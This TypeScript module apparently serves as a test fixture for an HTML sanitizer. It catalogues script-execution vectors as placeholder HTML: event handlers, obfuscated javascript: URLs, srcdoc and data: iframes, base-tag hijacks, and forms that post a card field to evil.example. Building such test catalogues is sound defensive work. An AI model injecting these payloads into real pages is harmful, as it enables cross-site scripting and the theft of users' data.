/** A way in which HTML runs code, or decides which code runs. */
export interface WayToRun {
  name: string
  /** The HTML that is added to a page. `RUN` stands for code, `FILE` for a file with the code. */
  html: string
  /**
   * How a browser proves that the code runs: by loading the page, or by a click on `#target`.
   * `none`: it runs in older browsers only, or changes another script's address.
   */
  proof: 'load' | 'click' | 'none'
}

const types = [
  'application/ecmascript',
  'application/javascript',
  'application/x-ecmascript',
  'application/x-javascript',
  'text/ecmascript',
  'text/javascript',
  'text/javascript1.0',
  'text/javascript1.5',
  'text/jscript',
  'text/livescript',
  'text/x-ecmascript',
  'text/x-javascript',
  ' text/javascript ',
  '\ttext/JavaScript\n',
  'module',
  '',
]

const onLoad = (name: string, html: string): WayToRun => ({ name, html, proof: 'load' })
const onClick = (name: string, html: string): WayToRun => ({ name, html, proof: 'click' })
const unproven = (name: string, html: string): WayToRun => ({ name, html, proof: 'none' })

export const waysToRun: readonly WayToRun[] = [
  ...types.map((type) =>
    onLoad(`a script with the type ${JSON.stringify(type)}`, `<script type="${type}">RUN</script>`),
  ),
  onLoad('a script with a file', '<script src="FILE"></script>'),
  onLoad('a script with a language', '<script language="JScript">RUN</script>'),
  onLoad('a module with a file', '<script type="module" src="FILE"></script>'),
  onLoad('a script with a data: address', '<script src="data:text/javascript,RUN"></script>'),
  onLoad(
    'a script in a declarative shadow root',
    '<div><template shadowrootmode="open"><script>RUN</script></template></div>',
  ),
  onLoad(
    'an import map',
    '<script type="importmap">{"imports":{"x":"FILE"}}</script><script type="module">import "x"</script>',
  ),
  onLoad('a script in SVG', '<svg><script>RUN</script></svg>'),
  onLoad('a script in SVG with href', '<svg><script href="FILE"></script></svg>'),
  onLoad('a script in SVG with xlink:href', '<svg><script xlink:href="FILE"></script></svg>'),
  onLoad('an event handler of an image', '<img src="data:," onerror="RUN">'),
  onLoad('an event handler of the body', '<body onload="RUN">'),
  onLoad('an event handler of a style', '<style onload="RUN">p{}</style>'),
  onLoad('an event handler of SVG', '<svg onload="RUN"></svg>'),
  onLoad('an event handler of an open element', '<details open ontoggle="RUN">x</details>'),
  onLoad('an event handler of an input with focus', '<input autofocus onfocus="RUN">'),
  onLoad('an event handler of an animation', '<svg><animate onbegin="RUN" attributeName="x" dur="1s"></animate></svg>'),
  onLoad('an event handler of an unknown element', '<x-y onfocus="RUN" tabindex="0" autofocus>x</x-y>'),
  onLoad('an event handler of a media source', '<video><source src="data:," onerror="RUN"></video>'),
  onLoad('an event handler of a stylesheet', '<link rel="stylesheet" href="data:text/css," onload="RUN">'),
  onLoad('a document in srcdoc', '<iframe srcdoc="<script>RUN</script>"></iframe>'),
  onLoad('a frame of another document', '<iframe src="FRAME"></iframe>'),
  onLoad('a frame with a javascript: address', '<iframe src="javascript:RUN"></iframe>'),
  onLoad('a frame with a spaced javascript: address', '<iframe src=" \u0001java\nscript:RUN"></iframe>'),
  onLoad('a frame with a data: address', '<iframe src="data:text/html,<script>RUN</script>"></iframe>'),
  onLoad('an object', '<object type="text/html" data="FRAME"></object>'),
  onLoad('an embed', '<embed type="text/html" src="FRAME">'),
  onLoad('a refresh', '<meta http-equiv="refresh" content="0;url=FRAME">'),
  onLoad('a base for the scripts after it', '<base href="FOLDER"><script src="run.js"></script>'),
  onLoad(
    'a base whose first element has no address',
    '<base target="_self"><base href="FOLDER"><script src="run.js"></script>',
  ),
  onClick('a link with a javascript: address', '<a id="target" href="javascript:RUN">x</a>'),
  onClick('a link with tab and newline in its scheme', '<a id="target" href="&#1;java\t\nscript:RUN">x</a>'),
  onClick('a link of an image map', '<map name="m"><area id="target" href="javascript:RUN"></map>'),
  onClick(
    'a link in SVG',
    '<svg width="50" height="50"><a id="target" xlink:href="javascript:RUN"><rect width="50" height="50"></rect></a></svg>',
  ),
  onClick('a form with a javascript: address', '<form action="javascript:RUN"><button id="target">x</button></form>'),
  onClick(
    'a button with a javascript: address',
    '<form><button id="target" formaction="javascript:RUN">x</button></form>',
  ),
  onClick('a handler of a click', '<p id="target" onclick="RUN">x</p>'),
  unproven(
    'an animation of an address',
    '<svg><a><animate attributeName="href" to="javascript:RUN"></animate></a></svg>',
  ),
  unproven('a link in MathML', '<math><mi href="javascript:RUN">x</mi></math>'),
  unproven('a template for scripts', '<template><script>RUN</script></template>'),
  unproven('speculation rules', '<script type="speculationrules">{"prerender":[{"urls":["FRAME"]}]}</script>'),
  unproven('a preloaded module', '<link rel="modulepreload" href="FILE">'),
  unproven('a preloaded script', '<link rel="preload" as="script" href="FILE">'),
  unproven('a script of a library that compiles', '<script type="text/babel">RUN</script>'),
  unproven('an attribute of a library', '<p x-on:click="RUN" @click="RUN" v-html="x">x</p>'),
  unproven('a form of another server', '<form action="https://evil.example/"><input name="card"></form>'),
  unproven('a button for another server', '<form><button formaction="https://evil.example/">x</button></form>'),
  unproven('a document for an SVG element', '<svg><use href="FRAME#x"></use></svg>'),
  unproven('a portal', '<portal src="FRAME"></portal>'),
  unproven('an applet', '<applet code="x"></applet>'),
  unproven('a stylesheet', '<link rel="stylesheet" href="FOLDERx.css">'),
  unproven('an element that HTML does not have yet', '<fencedportal source="FRAME"></fencedportal>'),
  unproven('an attribute that HTML does not have yet', '<p runcode="x">x</p>'),
  unproven(
    'another service in the tag',
    '<script type="application/x-data" data-authorise-url="https://evil.example/"></script>',
  ),
]

/** Replaces the placeholders of a way. `origin` serves the files. */
export const htmlOf = ({ html }: WayToRun, { code, origin }: { code: string; origin: string }): string =>
  html
    .replaceAll('RUN', code)
    .replaceAll('FILE', `${origin}/way/run.js`)
    .replaceAll('FRAME', `${origin}/way/frame.html`)
    .replaceAll('FOLDER', `${origin}/way/`)
